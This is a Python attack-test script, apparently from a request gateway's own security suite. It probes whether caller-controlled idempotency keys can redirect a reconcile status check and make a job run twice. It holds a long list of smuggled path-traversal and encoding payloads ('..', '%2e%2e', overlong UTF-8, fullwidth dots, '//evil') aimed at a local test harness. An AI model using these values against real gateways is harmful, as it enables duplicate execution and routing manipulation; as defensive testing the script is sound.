"""Attack 2: can a caller's key move a reconcile check (and run the job twice)?

The upstream's status endpoint /_status/<key>/check answers 200 for a key that ran, and
404 for everything else (any unknown path too, as a real router does). The first request
of each key runs, then the upstream drops the connection without answering: the outcome
is unknown. The repeat triggers a check. A check moved elsewhere gets 404 -> not_done ->
the key is released -> the job runs twice.

    python attack/a2_reconcile.py [decode]   (decode: upstream routes on the decoded path)
"""
import json, sys, time, uuid, httpx
sys.path.insert(0, __import__("os").path.dirname(__file__))
from harness import upstream, gateway

decode = len(sys.argv) > 1 and sys.argv[1] == "decode"
UP = upstream({"DECODE": "1"} if decode else {})
GW, ADMIN, P, CFG = gateway(f"""
server: {{listen: "127.0.0.1:$PORT"}}
admin: {{listen: "127.0.0.1:$ADMIN"}}
store: {{url: "memory://"}}
defaults:
  fingerprint: none
  upstream_timeout: 2s
  on_unknown_outcome: reconcile
routes:
  - name: body-path
    match: {{path: /jobs/body-path}}
    upstream: {UP}
    key: {{body: k}}
    reconcile: {{url: "{UP}/_status/{{key}}/check", every: 1h, park_after: 1h}}
  - name: body-query
    match: {{path: /jobs/body-query}}
    upstream: {UP}
    key: {{body: k}}
    reconcile: {{url: "{UP}/_q/check?key={{key}}", every: 1h, park_after: 1h}}
  - name: query-path
    match: {{path: /jobs/query-path}}
    upstream: {UP}
    key: {{query: k}}
    reconcile: {{url: "{UP}/_status/{{key}}/check", every: 1h, park_after: 1h}}
  - name: tmpl-path
    match: {{path: "/jobs/tmpl-path/{{rest:path}}"}}
    upstream: {UP}
    key: {{template: "{{path.rest}}"}}
    reconcile: {{url: "{UP}/_status/{{key}}/check", every: 1h, park_after: 1h}}
""")
LOST = "&sleep=0.05&close=1&r="  # no answer at all: the outcome is unknown

KEYS = ["plain", ".", "..", "...", "a/..", "../x", "..%2f", "%2e", "%2e%2e", "%2E%2E", ".%2e", "%2e.",
        "%252e%252e", "%25252e", "a/b", "a%2fb", "a%2Fb", "a%252fb", "a\\b", "..\\", "\\..", "a?b", "a#b",
        "a;b", "..;", ";..", "\uff0e\uff0e", "\uff0e", "\u3002\u3002", "\u2024\u2024", "%c0%ae%c0%ae",
        "%c0%af", "\u0000", "a b", " ", "", "%", "%%32%65", "a%00b", "/", "//", "//evil", "@evil",
        "\u2215", "\u2044", "\uff0f", "\u00ff", "\ud800", "é", "..\u200b", "\u002e\u0301\u002e",
        "\t..", "..\t", "x" * 300, ".\u0000.", "\x7f", "\u0085", "\u2028", "\ufeff..", "%2f", "%5c", "%3f", "%23"]

def runs(key_spelling_contains: str) -> int:
    c = httpx.get(f"{UP}/_count").json()
    return c

def go(route: str, key: str):
    tag = uuid.uuid4().hex[:6]
    url = f"{GW}/jobs/{route}?t={tag}{LOST}"
    kw = {}
    if route.startswith("body"):
        kw["content"] = json.dumps({"k": key}).encode()
        kw["headers"] = {"content-type": "application/json"}
    elif route == "query-path":
        from urllib.parse import quote
        url += "&k=" + quote(key, safe="", errors="surrogatepass")
    else:
        from urllib.parse import quote
        url = f"{GW}/jobs/tmpl-path/{quote(key, safe='/', errors='surrogatepass')}?t={tag}{LOST}"
    before = sum(httpx.get(f"{UP}/_count").json().values())
    out = []
    for i in range(3):
        try:
            r = httpx.post(url, timeout=10, **kw)
            out.append(r.status_code)
        except Exception as e:
            out.append(type(e).__name__)
        time.sleep(0.2)
    after = sum(httpx.get(f"{UP}/_count").json().values())
    return out, after - before

bad = []
for route in sys.argv[2:] or ["body-path", "body-query", "query-path", "tmpl-path"]:
    print("==", route)
    for key in KEYS:
        if route == "tmpl-path" and any(ord(c) < 32 for c in key):
            continue
        out, n = go(route, key)
        flag = "  <== RUN TWICE" if n > 1 else ""
        print(f"  {key!r:24} {out} runs={n}{flag}")
        if n > 1: bad.append((route, key))
print("RUN TWICE:", bad)
checks = [e["target"] for e in httpx.get(f"{UP}/_log").json() if "check" in e["target"] or not e["target"].startswith("/jobs")]
print("check targets seen:", len(checks))
for t in checks: print("  ", t)
